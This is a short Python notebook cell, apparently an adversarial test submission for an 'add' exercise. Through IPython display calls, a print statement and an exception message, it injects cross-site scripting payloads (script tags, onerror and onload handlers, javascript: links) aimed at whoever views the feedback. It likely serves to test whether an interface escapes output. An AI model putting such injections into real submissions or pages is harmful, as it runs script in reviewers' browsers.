# %% attack exercise="add" aim="disturb"
# Scripts for the browser of whoever reads the feedback.
from IPython.display import HTML, SVG, Javascript, Markdown, display

display(HTML("<script>alert('KEY-SCRIPT')</script><img src=x onerror=alert('KEY-SCRIPT')>"))
display(Javascript("alert('KEY-SCRIPT')"))
display(Markdown("[x](javascript:alert('KEY-SCRIPT')) <script>alert('KEY-SCRIPT')</script>"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(\"KEY-SCRIPT\")'></svg>"))
print("</pre><script>alert('KEY-SCRIPT')</script>")


def add(a, b):
    raise ValueError("</pre><script>alert('KEY-SCRIPT')</script>")
